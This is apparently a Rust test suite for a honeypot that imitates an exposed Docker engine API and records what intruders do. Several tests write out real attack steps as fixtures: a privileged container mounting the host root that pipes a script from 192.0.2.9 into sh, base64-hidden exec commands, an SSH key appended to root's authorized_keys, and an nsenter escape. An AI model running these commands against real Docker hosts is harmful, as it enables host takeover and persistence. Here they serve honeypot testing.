//! The Docker engine.

use serde_json::{Value, json};

use super::*;

#[test]
fn the_docker_engine_says_what_it_is() {
    let (status, head, body) = get("docker", "/_ping");
    assert_eq!((status, body.as_str()), (200, "OK"));
    assert!(head.contains("Api-Version: 1.41\r\n") && head.contains("\r\nServer: Docker/20.10."));
    let version: Value = serde_json::from_str(&get("docker", "/v1.41/version").2).unwrap();
    let info: Value = serde_json::from_str(&get("docker", "/info").2).unwrap();
    assert_eq!(version["Version"], info["ServerVersion"]);
    assert_eq!(get("docker", "/nope").2, "{\"message\":\"page not found\"}\n");
    assert!(get("docker", "/v1.99/version").2.contains("client version 1.99 is too new"));
    let list: Value = serde_json::from_str(&get("docker", "/containers/json").2).unwrap();
    assert_eq!(list.as_array().unwrap().len(), 1);
}

#[test]
fn a_container_is_created_started_and_seen_to_end() {
    let create = post(
        "/v1.41/containers/create?name=miner",
        "application/json",
        &json!({"Image": "busybox", "Cmd": ["sh", "-c", "echo hello; sleep 3"],
        "HostConfig": {"Binds": ["/:/mnt"], "Privileged": true}})
        .to_string(),
    );
    let pull =
        "POST /v1.41/images/create?fromImage=busybox&tag=latest HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n\r\n";
    let start = "POST /v1.41/containers/miner/start HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n\r\n";
    let wait = "POST /v1.41/containers/miner/wait HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n\r\n";
    let logs = "GET /v1.41/containers/miner/logs?stdout=1 HTTP/1.1\r\nHost: x\r\n\r\n";
    let outcome = Transcript::tcp("docker", "").run(&[
        Step::Recv(create.as_bytes()),
        Step::Recv(pull.as_bytes()),
        Step::Wait(5_000),
        Step::Recv(create.as_bytes()),
        Step::Recv(start.as_bytes()),
        Step::Recv(wait.as_bytes()),
        Step::Wait(6_000),
        Step::Recv(logs.as_bytes()),
        Step::Wait(10),
    ]);
    let all = answers(&outcome);
    let statuses: Vec<u16> = all.iter().map(|answer| answer.0).collect();
    assert_eq!(statuses, [404, 200, 201, 204, 200, 200]);
    assert!(all[1].2.contains("Downloaded newer image for busybox:latest"));
    assert!(all[4].2.contains("\"StatusCode\":0"));
    assert!(all[5].2.ends_with("\x06hello\n"), "{:?}", all[5].2);
    let made =
        &outcome.events.iter().filter(|event| event.kind == "request").nth(2).unwrap().fields["decoded"]["container"];
    assert_eq!((&made["binds"], &made["privileged"]), (&json!(["/:/mnt"]), &json!(true)));
    assert!(
        outcome
            .events
            .iter()
            .any(|event| event.kind == "command" && event.fields["command"] == "sh -c echo hello; sleep 3")
    );
}

#[test]
fn a_terminal_in_a_container_takes_commands_however_they_are_cut() {
    let list = get("docker", "/containers/json").2;
    let id = serde_json::from_str::<Value>(&list).unwrap()[0]["Names"][0]
        .as_str()
        .unwrap()
        .trim_start_matches('/')
        .to_owned();
    let exec = post(
        &format!("/v1.41/containers/{id}/exec"),
        "application/json",
        &json!({"Cmd": ["sh"], "Tty": true, "AttachStdin": true}).to_string(),
    );
    let created = Transcript::tcp("docker", "").run(&[Step::Recv(exec.as_bytes())]);
    let id = serde_json::from_str::<Value>(&answers(&created)[0].2).unwrap()["Id"].as_str().unwrap().to_owned();
    let start = format!(
        "POST /v1.41/exec/{id}/start HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: tcp\r\nContent-Type: application/json\r\nContent-Length: 27\r\n\r\n{{\"Detach\":false,\"Tty\":true}}"
    );
    let steps = [Step::Recv(exec.as_bytes()), Step::Recv(start.as_bytes()), Step::Wait(100), Step::Recv(b"id\rexit\r")];
    let outcome = Transcript::tcp("docker", "").run(&steps);
    let sent = text(&outcome);
    assert!(sent.contains("HTTP/1.1 101 UPGRADED\r\nContent-Type: application/vnd.docker.raw-stream\r\nConnection: Upgrade\r\nUpgrade: tcp\r\n\r\n# id\r\nuid=0(root)"), "{sent}");
    assert!(outcome.closed);
    assert!(outcome.events.iter().any(|event| event.kind == "command" && event.fields["command"] == "id"));
}

pub(super) fn call(method: &str, path: &str, body: Value) -> String {
    let body = if body.is_null() { String::new() } else { body.to_string() };
    format!(
        "{method} /v1.41{path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    )
}

/// Pulls and builds take their time.
pub(super) fn answered(script: &[(String, u16, &str)]) -> Outcome {
    super::answered("docker", 8_000, script)
}

#[test]
fn errors_are_in_the_daemons_own_words() {
    let create = |name: &str, config: Value| call("POST", &format!("/containers/create?name={name}"), config);
    let published = json!({"Image": "nginx", "HostConfig": {"PortBindings": {"80/tcp": [{"HostPort": "8080"}]}}});
    let none = Value::Null;
    answered(&[
        (call("POST", "/images/create?fromImage=nginx&tag=latest", none.clone()), 200, "Downloaded newer image"),
        (create("web1", published.clone()), 201, "Id"),
        (call("POST", "/containers/web1/start", none.clone()), 204, ""),
        (call("POST", "/containers/web1/start", none.clone()), 304, ""),
        (create("web1", published.clone()), 409, "is already in use by container \\\""),
        (create("web2", published), 201, "Id"),
        (
            call("POST", "/containers/web2/start", none.clone()),
            500,
            "Bind for 0.0.0.0:8080 failed: port is already allocated",
        ),
        (create("b%20d", json!({"Image": "nginx"})), 400, "Invalid container name (b d), only [a-zA-Z0-9]"),
        (create("x1", json!({"Image": "Nginx"})), 400, "repository name must be lowercase"),
        (create("x1", json!({"Image": "nginx:"})), 400, "invalid reference format"),
        (
            create("x1", json!({"Image": "nginx", "HostConfig": {"Memory": 9}})),
            400,
            "Minimum memory limit allowed is 6MB",
        ),
        (create("x1", json!({"Image": "nginx", "HostConfig": {"Runtime": "no"}})), 400, "Unknown runtime specified no"),
        (post("/v1.41/containers/create", "text/plain", "{}"), 400, "Content-Type specified (text/plain) must be"),
        (post("/v1.41/containers/create", "application/json", "{"), 500, "unexpected EOF"),
        (call("POST", "/containers/web2/kill", none.clone()), 409, "Cannot kill container: web2: Container "),
        (call("POST", "/containers/web1/unpause", none.clone()), 500, "is not paused"),
        (call("GET", "/containers/web1/logs", none.clone()), 400, "you must choose at least one stream"),
        (call("GET", "/containers/json?all=1&filters=%7B%22name%22%3A%5B%22web2%22%5D%7D", none.clone()), 200, "/web2"),
        (call("GET", "/images/nosuch/json", none), 404, "No such image: nosuch:latest"),
    ]);
}

#[test]
fn files_go_into_a_container_and_come_out_again() {
    let archive = super::super::docker::archive_of("miner.sh", b"#!/bin/sh\n");
    let mut put = format!(
        "PUT /v1.41/containers/box/archive?path=/tmp HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-tar\r\nContent-Length: {}\r\n\r\n",
        archive.len()
    )
    .into_bytes();
    put.extend(archive);
    let create = json!({"Image": "alpine:3.14", "Cmd": ["sleep", "90"], "HostConfig": {"Binds": ["/:/mnt"]}});
    let before =
        [call("POST", "/containers/create?name=box", create), call("POST", "/containers/box/start", Value::Null)]
            .concat();
    let after = ["/archive?path=/tmp/miner.sh", "/changes", "/archive?path=/mnt/etc/passwd"]
        .map(|path| call("GET", &format!("/containers/box{path}"), Value::Null));
    let mut steps = vec![Step::Recv(before.as_bytes()), Step::Recv(&put)];
    // An archive is streamed.
    steps.extend(after.iter().flat_map(|request| [Step::Recv(request.as_bytes()), Step::Wait(10)]));
    let outcome = Transcript::tcp("docker", "").run(&steps);
    let all = answers(&outcome);
    assert_eq!(all.iter().map(|answer| answer.0).collect::<Vec<_>>(), [201, 204, 200, 200, 200, 200]);
    assert!(all[3].1.contains("X-Docker-Container-Path-Stat: ") && all[3].2.contains("#!/bin/sh\n"));
    let changes: Value = serde_json::from_str(&all[4].2).unwrap();
    assert_eq!(changes, json!([{"Path": "/tmp/miner.sh", "Kind": 1}]));
    assert!(all[5].2.contains("systemd-resolve:x:102:103"), "the machine is seen through the mount");
}

#[test]
fn what_is_done_to_the_machine_is_seen_afterwards() {
    let ask = call;
    let container = json!({"Image": "nginx:1.21", "Cmd": ["sleep", "60"], "HostConfig": {"Binds": ["/:/host:ro"]}});
    let missing = json!({"Image": "base:1", "Cmd": ["./miner"]});
    let script = [
        (ask("POST", "/images/create?fromImage=nginx&tag=1.21", Value::Null), 200, "nginx:1.21"),
        (ask("POST", "/containers/create?name=box-a", container), 201, "Id"),
        (ask("POST", "/containers/box-a/start", Value::Null), 204, ""),
        (ask("POST", "/containers/box-a/rename?name=box-b", Value::Null), 204, ""),
        (ask("POST", "/containers/box-b/pause", Value::Null), 204, ""),
        (ask("GET", "/containers/json", Value::Null), 200, "(Paused)"),
        (ask("GET", "/containers/box-b/json", Value::Null), 200, "\"IPAddress\":\"172.17.0."),
        (ask("GET", "/containers/box-b/json", Value::Null), 200, "\"Destination\":\"/host\",\"Mode\":\"ro\""),
        (ask("GET", "/containers/box-b/archive?path=/x", Value::Null), 404, "Could not find the file /x in container"),
        (ask("POST", "/containers/box-b/rename?name=box-b", Value::Null), 400, "the same name as its current name"),
        (ask("POST", "/images/nginx:1.21/tag?repo=x&tag=y", Value::Null), 201, ""),
        (ask("GET", "/images/x:y/json", Value::Null), 200, "x:y"),
        (ask("POST", "/networks/create", json!({"Name": "n"})), 201, "Id"),
        (ask("POST", "/networks/create", json!({"Name": "n"})), 409, "network with name n already exists"),
        (ask("GET", "/networks/n", Value::Null), 200, "\"Name\":\"n\""),
        (ask("DELETE", "/networks/n", Value::Null), 204, ""),
        (ask("GET", "/networks/n", Value::Null), 404, "network n not found"),
        (ask("DELETE", "/networks/bridge", Value::Null), 403, "pre-defined network"),
        (ask("POST", "/volumes/create", json!({"Name": "vol"})), 201, "/var/lib/docker/volumes/vol/_data"),
        (ask("GET", "/volumes", Value::Null), 200, "\"Name\":\"vol\""),
        (ask("DELETE", "/volumes/vol", Value::Null), 204, ""),
        (ask("DELETE", "/volumes/vol", Value::Null), 404, "no such volume"),
        (ask("POST", "/build/prune", Value::Null), 200, "SpaceReclaimed"),
        (
            ask("POST", "/swarm/init", json!({"ListenAddr": "0.0.0.0:2377"})),
            400,
            "could not choose an IP address to advertise",
        ),
        (ask("POST", "/images/base:1/tag?repo=alpine", Value::Null), 404, "No such image"),
        (ask("POST", "/images/nginx:1.21/tag?repo=alpine", Value::Null), 201, ""),
        (ask("POST", "/containers/create?name=box-c", json!({"Image": "alpine", "Cmd": ["nosuch"]})), 201, "Id"),
        (ask("POST", "/containers/box-c/start", Value::Null), 400, "executable file not found in $PATH"),
        (ask("POST", "/images/nginx:1.21/tag?repo=base&tag=1", Value::Null), 201, ""),
        (ask("POST", "/containers/create?name=box-d", missing), 201, "Id"),
        (ask("POST", "/containers/box-d/start", Value::Null), 204, ""),
        (ask("GET", "/containers/box-d/json", Value::Null), 200, "\"Status\":\"running\""),
    ];
    answered(&script);
}

#[test]
fn the_two_streams_of_a_command_are_told_apart_and_chosen() {
    let script = "echo out; echo err >&2";
    let config = json!({"Image": "alpine:3.14", "Cmd": ["sh", "-c", script]});
    let logs = |query: &str| call("GET", &format!("/containers/two/logs?{query}"), Value::Null);
    let exec = |streams: Value| {
        let mut config = json!({"Cmd": ["sh", "-c", script]});
        config.as_object_mut().unwrap().extend(streams.as_object().unwrap().clone());
        config
    };
    let (out, err) = ("\x01\0\0\0\0\0\0\x04out\n", "\x02\0\0\0\0\0\0\x04err\n");
    let both = format!("{out}{err}");
    let outcome = answered(&[
        (call("POST", "/containers/create?name=two", config), 201, "Id"),
        (call("POST", "/containers/two/start", Value::Null), 204, ""),
        (logs("stdout=1&stderr=1"), 200, &both),
        (logs("stdout=1"), 200, out),
        (logs("stderr=1"), 200, err),
        (logs("stdout=1&stderr=1&tail=1"), 200, err),
        (logs("stdout=1&stderr=1&follow=1"), 200, &both),
        (logs("stdout=1&timestamps=1"), 200, "Z out\n"),
        (call("POST", "/containers/two/exec", exec(json!({"AttachStderr": true}))), 409, "is not running"),
    ]);
    let all = answers(&outcome);
    assert_eq!((all[3].2.as_str(), all[4].2.as_str(), all[5].2.as_str()), (out, err, err));
    assert_eq!(outcome.events.iter().filter(|event| event.kind == "command").count(), 2);
}

/// `docker run -i alpine cat`: nobody has to close a pipe to see what it brings.
#[test]
fn cat_gives_back_at_once_what_it_is_given() {
    let exec = call("POST", "/containers/one/exec", json!({"Cmd": ["cat"], "AttachStdin": true, "AttachStdout": true}));
    let made = [
        call("POST", "/containers/create?name=one", json!({"Image": "alpine:3.14", "Cmd": ["sleep", "60"]})),
        call("POST", "/containers/one/start", Value::Null),
        exec,
    ]
    .concat();
    let created = Transcript::tcp("docker", "").run(&[Step::Recv(made.as_bytes())]);
    let id = serde_json::from_str::<Value>(&answers(&created)[2].2).unwrap()["Id"].as_str().unwrap().to_owned();
    let start = call("POST", &format!("/exec/{id}/start"), json!({"Detach": false, "Tty": false}));
    let outcome =
        Transcript::tcp("docker", "").connections(&[[made, start, "abc\n".to_owned()].concat().as_bytes()]).remove(0);
    let sent = text(&outcome);
    assert!(sent.ends_with("raw-stream\r\n\r\n\x01\0\0\0\0\0\0\x04abc\n"), "{sent}");
}

#[test]
fn what_happened_to_a_container_is_told_to_who_asks_for_events() {
    let config = json!({"Image": "alpine:3.14", "Cmd": ["sh", "-c", "exit 7"], "Labels": {"a": "b"}});
    let outcome = answered(&[
        (call("POST", "/containers/create?name=one", config), 201, "Id"),
        (call("POST", "/containers/one/start", Value::Null), 204, ""),
        (call("DELETE", "/containers/one", Value::Null), 204, ""),
        (
            call(
                "GET",
                "/events?since=1&until=1700000020&filters=%7B%22type%22%3A%5B%22container%22%5D%7D",
                Value::Null,
            ),
            200,
            "exitCode",
        ),
    ]);
    let told = &answers(&outcome)[3].2;
    let actions: Vec<String> = told
        .lines()
        .map(|line| serde_json::from_str::<Value>(line).unwrap())
        .filter(|event| event["Actor"]["Attributes"]["name"] == "one")
        .map(|event| event["status"].as_str().unwrap().to_owned())
        .collect();
    assert_eq!(actions, ["create", "start", "die", "destroy"], "{told}");
    assert!(told.contains("\"exitCode\":\"7\"") && told.contains("\"a\":\"b\""));
}

/// A miner's visit as it is told of open engines: a container on the machine's files, what it runs in them, and what it asks afterwards.
#[test]
fn an_attack_on_an_open_engine_leaves_a_full_record() {
    let payload = "chroot /mnt sh -c 'echo Kgk= | base64 -d; (curl -fsSL http://192.0.2.9/d.sh || wget -q -O- http://192.0.2.9/d.sh) | sh'";
    let config = json!({
        "Image": "alpine:latest", "Cmd": ["sh", "-c", payload], "Env": ["LANG=C"], "Tty": false,
        "HostConfig": {"Binds": ["/:/mnt"], "Privileged": true, "NetworkMode": "host", "PidMode": "host",
            "RestartPolicy": {"Name": "always"}},
    });
    let exec = json!({"Cmd": ["sh", "-c", "echo aWQ= | base64 -d | sh"], "AttachStdout": true, "AttachStderr": true});
    let outcome = answered(&[
        (call("GET", "/version", Value::Null), 200, "ApiVersion"),
        (call("GET", "/containers/json", Value::Null), 200, "Up "),
        (call("POST", "/containers/create?name=miner", config.clone()), 404, "No such image: alpine:latest"),
        (
            call("POST", "/images/create?fromImage=alpine&tag=latest", Value::Null),
            200,
            "Downloaded newer image for alpine:latest",
        ),
        (call("POST", "/containers/create?name=miner", config), 201, "Id"),
        (call("POST", "/containers/miner/start", Value::Null), 204, ""),
        (call("GET", "/containers/miner/json", Value::Null), 200, "\"Privileged\":true"),
        (
            call("POST", "/containers/create?name=chattr", json!({"Image": "cmd.cat/chattr", "Cmd": ["sleep", "60"]})),
            404,
            "No such image",
        ),
        (
            call("POST", "/images/create?fromImage=cmd.cat%2Fchattr&tag=latest", Value::Null),
            200,
            "Downloaded newer image",
        ),
        (
            call("POST", "/containers/create?name=chattr", json!({"Image": "cmd.cat/chattr", "Cmd": ["sleep", "60"]})),
            201,
            "Id",
        ),
        (call("POST", "/containers/chattr/start", Value::Null), 204, ""),
        (call("POST", "/containers/chattr/exec", exec), 201, "Id"),
        (call("DELETE", "/containers/chattr?force=1", Value::Null), 204, ""),
    ]);
    let requests: Vec<&Value> = outcome.events.iter().filter_map(|event| event.fields.get("decoded")).collect();
    let made = requests.iter().filter_map(|decoded| decoded.get("container")).next_back().unwrap();
    assert_eq!(made["image"], "cmd.cat/chattr");
    let made = &requests.iter().find_map(|decoded| decoded.get("container")).unwrap();
    let told =
        [("binds", json!(["/:/mnt"])), ("privileged", json!(true)), ("network", json!("host")), ("pid", json!("host"))];
    for (name, value) in
        told.into_iter().chain([("restart", json!("always")), ("command", json!(["sh", "-c", payload]))])
    {
        assert_eq!(made[name], value, "{name}");
    }
    let commands: Vec<&str> = outcome
        .events
        .iter()
        .filter(|event| event.kind == "command")
        .filter_map(|event| event.fields["command"].as_str())
        .collect();
    assert!(commands.contains(&format!("sh -c {payload}").as_str()), "{commands:?}");
    assert!(commands.contains(&"sh -c echo aWQ= | base64 -d | sh"), "{commands:?}");
    assert!(
        outcome.downloads.iter().any(|download| download.url == "http://192.0.2.9/d.sh"),
        "{:?}",
        outcome.downloads
    );
}

/// What `docker run` prints for these: options of the container, its command, and what its output must be.
fn prints(script: &[(Value, &str, &str)]) {
    let mut calls = Vec::new();
    let wanted: Vec<String> = script.iter().map(|(_, _, wanted)| wanted.replace('\n', "\r\n")).collect();
    for (at, (options, command, _)) in script.iter().enumerate() {
        let mut config = json!({"Image": "alpine:3.14", "Cmd": ["sh", "-c", command], "Tty": true});
        config.as_object_mut().unwrap().extend(options.as_object().unwrap().clone());
        let name = format!("box{at}");
        calls.extend([
            (call("POST", &format!("/containers/create?name={name}"), config), 201, "Id"),
            (call("POST", &format!("/containers/{name}/start"), Value::Null), 204, ""),
            (call("GET", &format!("/containers/{name}/logs?stdout=1&stderr=1"), Value::Null), 200, wanted[at].as_str()),
            (call("DELETE", &format!("/containers/{name}?force=1"), Value::Null), 204, ""),
        ]);
    }
    answered(&calls);
}

#[test]
fn containers_share_the_machine_and_its_volumes_and_nothing_else() {
    let binds = |bind: &str| json!({"HostConfig": {"Binds": [bind]}});
    prints(&[
        (binds("/:/host"), "echo key >> /host/root/.ssh/authorized_keys; cat /host/root/.ssh/authorized_keys", "key\n"),
        (binds("/:/mnt"), "chroot /mnt sh -c 'cat /root/.ssh/authorized_keys; pwd; ls /.dockerenv'", "key\n/\n"),
        (json!({}), "ls /root/.ssh/authorized_keys", "No such file"),
        (binds("/:/mnt"), "chroot /mnt cat /etc/passwd; cat /etc/passwd", "/bin/ash"),
        (
            json!({"HostConfig": {"Privileged": true, "PidMode": "host"}}),
            "nsenter -t 1 -m cat /root/.ssh/authorized_keys",
            "key\n",
        ),
        (binds("data:/d"), "echo kept > /d/f; cat /d/f", "kept\n"),
        (binds("data:/other"), "cat /other/f", "kept\n"),
        (binds("/:/h"), "cat /h/var/lib/docker/volumes/data/_data/f", "kept\n"),
        (binds("/new/dir:/x"), "ls -d /x", "/x\n"),
    ]);
}

#[test]
fn what_is_read_only_or_anothers_takes_no_files() {
    let host = |host: Value| json!({"HostConfig": host});
    let none = Value::Null;
    prints(&[
        (host(json!({"Binds": ["/:/host:ro"]})), "touch /host/x", "touch: /host/x: Read-only file system\n"),
        (host(json!({"ReadonlyRootfs": true})), "touch /x", "touch: /x: Read-only file system\n"),
        (host(json!({"ReadonlyRootfs": true, "Tmpfs": {"/run": ""}})), "echo a > /run/x; cat /run/x", "a\n"),
        (json!({"User": "1000"}), "id", "uid=1000 gid=0(root) groups=0(root)\n"),
        (json!({"User": "1000:1000"}), "touch /x", "touch: /x: Permission denied\n"),
        (json!({"User": "nobody"}), "whoami; echo $HOME", "nobody\n/\n"),
        (json!({"User": "7777"}), "whoami", "whoami: unknown uid 7777\n"),
    ]);
    answered(&[
        (
            call("POST", "/containers/create?name=uu", json!({"Image": "alpine:3.14", "User": "eve", "Cmd": ["id"]})),
            201,
            "",
        ),
        (
            call("POST", "/containers/uu/start", none.clone()),
            500,
            "unable to find user eve: no matching entries in passwd file",
        ),
        (
            call("POST", "/containers/create?name=gg", json!({"Image": "alpine:3.14", "User": "0:eve", "Cmd": ["id"]})),
            201,
            "",
        ),
        (
            call("POST", "/containers/gg/start", none),
            500,
            "unable to find group eve: no matching entries in group file",
        ),
    ]);
}

#[test]
fn processes_in_a_container_are_its_own() {
    let exec = json!({"Cmd": ["ps"], "AttachStdout": true});
    let outcome = answered(&[
        (
            call("POST", "/containers/create?name=pp", json!({"Image": "alpine:3.14", "Cmd": ["sleep", "900"]})),
            201,
            "Id",
        ),
        (call("POST", "/containers/pp/start", Value::Null), 204, ""),
        (call("POST", "/containers/pp/exec", exec), 201, "Id"),
    ]);
    let id = serde_json::from_str::<Value>(&answers(&outcome)[2].2).unwrap()["Id"].as_str().unwrap().to_owned();
    assert_eq!(id.len(), 64);
    prints(&[
        (json!({}), "cat /proc/1/cgroup", "/docker/"),
        (json!({"Cmd": ["env"], "Env": ["A=1"]}), "", "A=1\nHOME=/root\nHOSTNAME="),
        (json!({"Cmd": ["ps"]}), "", "PID   USER     TIME  COMMAND\n    1 root      0:00 ps\n"),
    ]);
}
